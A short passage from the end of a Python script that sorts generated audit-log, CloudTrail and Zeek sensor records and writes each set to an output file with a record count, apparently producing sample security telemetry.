    print(f"{LINUX_HOST}-audit.log: {len(audit_lines)} audit records")
    trail.sort(key=lambda r: r["eventTime"])
    (OUT / f"cloudtrail-{ACCOUNT}.json").write_text(json.dumps({"Records": trail}, indent=1) + "\n", encoding="utf-8")
    print(f"cloudtrail-{ACCOUNT}.json: {len(trail)} events")
    zeek.sort(key=lambda r: (r["ts"], r["_path"]))
    with (OUT / "zeek-sensor.jsonl").open("w", encoding="utf-8", newline="\n") as fh:
        for rec in zeek:
            fh.write(json.dumps(rec) + "\n")
    print(f"zeek-sensor.jsonl: {len(zeek)} records")


if __name__ == "__main__":
    main()
